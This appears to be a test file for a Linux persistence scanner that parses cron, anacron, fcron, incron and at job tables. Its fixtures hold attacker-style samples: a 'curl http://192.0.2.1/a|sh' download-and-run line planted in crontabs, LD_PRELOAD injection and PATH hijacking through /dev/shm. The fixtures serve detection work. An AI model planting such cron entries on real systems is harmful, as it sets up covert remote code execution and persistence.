import { describe, expect, test } from 'bun:test';
import { gatherFrom } from '../../../../test/persistence/gather.ts';
import { anacron } from './anacron.ts';
import { atJobs } from './at.ts';
import { cronPeriods } from './cron-periods.ts';
import { crontab } from './crontab.ts';
import { fcron, incron } from './watched-tables.ts';

describe('linux.crontab', () => {
  test('tells every table with user, line and command', async () => {
    const { entries } = await gatherFrom(crontab, {
      '/etc/crontab': 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n',
      '/etc/cron.d/sysstat': '5-55/10 * * * * root command -v debian-sa1 > /dev/null\n',
      '/var/spool/cron/crontabs/www-data': '@reboot /tmp/x\n',
      '/var/spool/cron/ada': '0 1 * * * make\n',
      '/etc/crontabs/root': '0 2 * * * run-parts /etc/periodic/daily\n',
    });
    const told = entries.map(({ mechanism, source, user, command }) =>
      [mechanism, source.line, user, command].join('|'),
    );
    expect(told).toEqual([
      'cron-table|2|root|run-parts /etc/cron.hourly',
      'cron-drop-in|1|root|command -v debian-sa1 > /dev/null',
      'cron-user|1|www-data|/tmp/x',
      'cron-user|1|ada|make',
      'cron-busybox|1|root|run-parts /etc/periodic/daily',
    ]);
    expect(entries.every(({ active, marks }) => active && marks.length === 0)).toBe(true);
  });

  test('marks a table that a database wrote', async () => {
    const { entries } = await gatherFrom(crontab, {
      '/var/spool/cron/root': 'REDIS0009\x00\x01\n\n*/2 * * * * curl http://192.0.2.1/a|sh\n\n',
    });
    expect(entries.map(({ marks }) => [...marks])).toEqual([['binary-noise']]);
  });

  test('tells what a table loads into its jobs, and a shell that is none', async () => {
    const { entries } = await gatherFrom(crontab, {
      '/etc/cron.d/a': 'SHELL=/bin/bash\nPATH=/bin\nLD_PRELOAD=/lib/x.so\nMAILTO=""\n',
      '/etc/cron.d/b': 'SHELL=/tmp/sh\n',
    });
    expect(entries.map(({ command, target }) => [String(command), String(target)])).toEqual([
      ['LD_PRELOAD=/lib/x.so', '/lib/x.so'],
      ['SHELL=/tmp/sh', '/tmp/sh'],
    ]);
  });

  test('gives each job the variables above it, as they stand', async () => {
    const { entries } = await gatherFrom(crontab, {
      '/etc/cron.d/a':
        'A=1\n* * * * * root a\nB="$A/x"\nA=2\n* * * * * root b\n* * * * * root c\nHOME=/srv/h\n* * * * * root d\n',
    });
    const given = entries.map(({ environment = [] }) =>
      environment.map(({ name, value }) => `${name}=${value}`).join(' '),
    );
    expect(given).toEqual(['A=1', 'B=$A/x A=2', 'B=$A/x A=2', 'B=$A/x A=2 HOME=/srv/h PWD=/srv/h']);
  });

  test('a PATH that begins elsewhere than with the folders of the system is told', async () => {
    const { entries } = await gatherFrom(crontab, {
      '/etc/cron.d/a': 'PATH=/usr/local/bin:/usr/bin:/bin\nPATH=/dev/shm/.x:/usr/bin\n* * * * * root kw\n',
    });
    expect(entries.map(({ command }) => String(command))).toEqual(['kw', 'PATH=/dev/shm/.x:/usr/bin']);
  });

  test('variables without number are kept to a bound, the newest', async () => {
    const lines = Array.from({ length: 9000 }, (_, at) => `V${at}=${at}\n* * * * * root a`).join('\n');
    const { entries } = await gatherFrom(crontab, {
      '/etc/cron.d/a': `${lines}\nW=${'x'.repeat(20_000)}\n@daily root b\n`,
    });
    const last = entries.at(-1)?.environment ?? [];
    expect([entries.length, last.length, last.at(-1)?.name]).toEqual([9001, 256, 'V8999']);
  });

  test('hands on what the command reads behind a percent sign', async () => {
    const { entries } = await gatherFrom(crontab, {
      '/etc/cron.d/a': '* * * * * root sh%curl http://192.0.2.1/a|sh',
    });
    expect(entries[0]).toMatchObject({
      command: 'sh',
      body: [{ line: 1, text: 'curl http://192.0.2.1/a|sh' }],
    });
  });

  test('tells as not active what cron does not read', async () => {
    const files = {
      '/etc/cron.d/x.dpkg-old': '* * * * * root a\n',
      '/etc/cron.d/with.dot': '* * * * * root b\n',
    };
    const elsewhere = await gatherFrom(crontab, files);
    expect(elsewhere.entries.map(({ active }) => active)).toEqual([false, true]);
    const debian = await gatherFrom(crontab, { ...files, '/etc/debian_version': '12.5\n' });
    expect(debian.entries.map(({ active }) => active)).toEqual([false, false]);
  });

  test('records what could not be read, and goes on', async () => {
    const { entries, log } = await gatherFrom(crontab, {
      '/etc/crontab': { status: 'denied', reason: 'EACCES' },
      '/etc/cron.d/pipe': { status: 'error', reason: 'not a file: fifo' },
      '/etc/cron.d/ok': '* * * * * root a\n',
    });
    expect(entries).toHaveLength(1);
    expect(log.listed.map(({ source, status }) => `${source} ${status}`)).toContain('/etc/crontab denied');
    expect(log.listed.map(({ source, status }) => `${source} ${status}`)).toContain('/etc/cron.d/pipe error');
  });

  test('of a folder with names beyond number reads the first ones', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 5000 }, (_, at) => [`/etc/cron.d/j${at}`, '* * * * * root /tmp/x\n']),
    );
    const { entries } = await gatherFrom(crontab, files);
    expect(entries.length).toBeGreaterThanOrEqual(4096);
  });
});

describe('linux.cron-periods', () => {
  test('tells scripts with their lines, and programs', async () => {
    const { entries } = await gatherFrom(cronPeriods, {
      '/etc/cron.daily/x': '#!/usr/bin/python3\nprint(1)\n',
      '/etc/cron.hourly/y': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0, 0]),
      '/etc/cron.hourly/.placeholder': '# none\n',
    });
    expect(
      entries.map(({ source, trigger, language, body }) => [
        String(source.source),
        String(trigger),
        language,
        body.length,
      ]),
    ).toEqual([
      ['/etc/cron.hourly/y', 'hourly', 'argv', 0],
      ['/etc/cron.daily/x', 'daily', 'python', 2],
    ]);
  });

  test('a file without an execute bit is not run', async () => {
    const { entries } = await gatherFrom(cronPeriods, { '/etc/cron.daily/x': '#!/bin/sh\n' });
    expect(entries[0]?.active).toBe(false);
  });

  test('keeps beginning and end of a script without end', async () => {
    const { entries } = await gatherFrom(cronPeriods, {
      '/etc/cron.daily/x': `#!/bin/sh\n${'#\n'.repeat(100_000)}/tmp/x\n`,
    });
    expect(entries[0]?.body.at(-1)).toMatchObject({ line: 100_002, text: '/tmp/x' });
    expect(entries[0]?.body.length).toBeLessThanOrEqual(2000);
  });
});

describe('linux.anacron', () => {
  test('tells jobs of the system and of users', async () => {
    const { entries } = await gatherFrom(anacron, {
      '/etc/passwd': 'ada:x:1000:1000::/home/ada:/bin/sh\n',
      '/etc/anacrontab': '1 5 cron.daily run-parts /etc/cron.daily\n',
      '/home/ada/.anacron/etc/anacrontab': '1 5 x rsync -a a b\n',
      '/var/spool/anacron/cron.daily': '20261120\n',
    });
    expect(entries.map(({ user, command }) => `${user} ${command}`)).toEqual([
      'root run-parts /etc/cron.daily',
      'ada rsync -a a b',
    ]);
  });

  test('a file of the spool that is no date is told', async () => {
    const { entries } = await gatherFrom(anacron, { '/var/spool/anacron/cron.x': '#!/bin/sh\ntrue\n' });
    expect(entries).toMatchObject([{ active: false, marks: ['unusual-place'] }]);
  });
});

test('linux.fcron reads the sources of tables, with the user of each job', async () => {
  const { entries } = await gatherFrom(fcron, {
    '/var/spool/fcron/ada.orig': '@ 5 a\n',
    '/var/spool/fcron/ada': '\x00\x01binary',
    '/var/spool/fcron/systab.orig': '@runas(www) 5 b\n@ 5 c\n',
  });
  expect(entries.map(({ user, command }) => `${user} ${command}`)).toEqual(['ada a', 'www b', 'root c']);
});

test('linux.incron reads tables of users and of the system', async () => {
  const { entries } = await gatherFrom(incron, {
    '/var/spool/incron/ada': '/a IN_CREATE x\n',
    '/etc/incron.d/z': '/b IN_DELETE y\n',
  });
  expect(entries.map(({ user, trigger, command }) => `${user}|${trigger}|${command}`)).toEqual([
    'ada|IN_CREATE /a|x',
    'root|IN_DELETE /b|y',
  ]);
});

describe('linux.at', () => {
  const job = '#!/bin/sh\n# atrun uid=33 gid=33\n# mail nobody 0\numask 22\ncd /x || {\n exit 1\n}\n/tmp/x\n';

  test('tells who, when and what', async () => {
    const { entries } = await gatherFrom(atJobs, {
      '/etc/passwd': 'www-data:x:33:33::/var/www:/bin/sh\n',
      '/var/spool/cron/atjobs/a0000201c7d1e0': job,
      '/var/spool/cron/atjobs/.SEQ': '00002',
    });
    expect(entries).toMatchObject([
      {
        user: 'www-data',
        trigger: 'a 2026-10-18T20:48Z',
        body: [{ line: 8, text: '/tmp/x' }],
        text: '/tmp/x',
      },
    ]);
  });

  test('gives its variables and its folder to what it runs', async () => {
    const { entries } = await gatherFrom(atJobs, {
      '/var/spool/at/x': job.replace(
        'umask 22\n',
        'umask 22\nX=/tmp/.x; export X\nLD_PRELOAD=/tmp/p.so; export LD_PRELOAD\n',
      ),
    });
    expect(entries.map(({ command }) => String(command))).toEqual(['', 'LD_PRELOAD=/tmp/p.so']);
    expect(entries[0]?.environment?.map(({ name, value }) => `${name}=${value}`)).toEqual([
      'X=/tmp/.x',
      'LD_PRELOAD=/tmp/p.so',
      'PWD=/x',
    ]);
  });

  test('a job of an unknown user names whom the mail goes to; other files are none', async () => {
    const { entries } = await gatherFrom(atJobs, { '/var/spool/at/x': job, '/var/spool/at/y': 'no job' });
    expect(entries).toMatchObject([{ user: 'nobody', trigger: 'unknown time' }]);
  });
});
